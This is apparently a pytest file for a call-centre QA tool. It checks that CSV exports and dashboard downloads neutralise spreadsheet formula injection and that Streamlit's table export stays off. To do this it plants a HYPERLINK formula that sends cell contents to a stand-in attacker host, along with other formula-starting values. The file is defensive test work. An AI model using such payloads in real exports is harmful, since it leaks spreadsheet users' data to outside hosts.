"""CSV exports a spreadsheet opens as data, never as formulas (issue 12, defect 6)."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path

import pandas as pd
from click.testing import CliRunner

from qa.cli import main
from qa.csvsafe import FORMULA_STARTS, frame_csv, safe_cell

DEVSET = Path(__file__).parent / "devset"
FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1, "Click for refund")'


def _planted(folder: Path) -> None:
    folder.mkdir()
    call = json.loads((DEVSET / "air_bag_020.json").read_text())
    call["call_id"] = "-2+3"
    call["agent"] = "+agent"
    call["utterances"][1]["text"] = FORMULA
    call["utterances"].insert(2, {"speaker": "customer", "start": 16.2, "end": 16.5,
                                  "text": "@SUM(1+1)\tcmd"})
    (folder / "formula.json").write_text(json.dumps(call))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not number(c)]


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    _planted(tmp_path / "in")
    db = str(tmp_path / "qa.db")
    runner = CliRunner()
    assert runner.invoke(main, ["score", str(tmp_path / "in"), "--db", db]).exit_code == 0
    for what in ("calls", "findings"):
        result = runner.invoke(main, ["export", "--db", db, "--what", what])
        assert result.exit_code == 0, result.output
        cells = _cells(result.stdout)
        assert "'+agent" in cells
        assert "'-2+3" in cells
        assert not _formulas(cells), what
    # Numbers stay numbers: a score is not quoted.
    rows = list(csv.DictReader(io.StringIO(
        runner.invoke(main, ["export", "--db", db]).stdout)))
    assert float(rows[0]["overall"]) > 0


def test_dashboard_downloads_neutralise_formulas() -> None:
    frame = pd.DataFrame({"call_id": ["-1", "ok"], "agent": ["+agent", None],
                          "match": [FORMULA, "\rx"], "overall": [-5.0, 80.0]})
    text = frame_csv(frame).decode("utf-8-sig")
    cells = _cells(text)
    assert not _formulas(cells)
    assert "'" + FORMULA in cells and "-5.0" in cells  # numbers are left as numbers
    assert safe_cell(3) == 3 and safe_cell("fine") == "fine"


def test_streamlit_table_export_is_off() -> None:
    """Streamlit's own "Download as CSV" on tables writes cells as they are."""
    config = tomllib.loads((Path(__file__).parent.parent / ".streamlit" / "config.toml")
                           .read_text())
    assert config["client"]["disableDataExport"] is True
